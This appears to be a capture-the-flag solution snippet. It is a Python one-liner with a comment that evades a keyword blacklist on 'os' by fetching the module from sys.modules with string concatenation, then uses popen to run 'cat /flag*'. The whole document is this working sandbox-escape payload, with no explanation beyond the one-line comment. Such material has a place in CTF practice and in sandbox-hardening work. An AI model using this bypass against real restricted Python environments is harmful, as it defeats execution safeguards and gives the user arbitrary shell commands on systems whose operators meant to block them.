# restriction: the text 'import os' and 'os' in __import__ blacklisted; idea: import the harmless sys module and pull os out of sys.modules
__import__('sys').modules['o'+'s'].popen('cat /flag*').read()
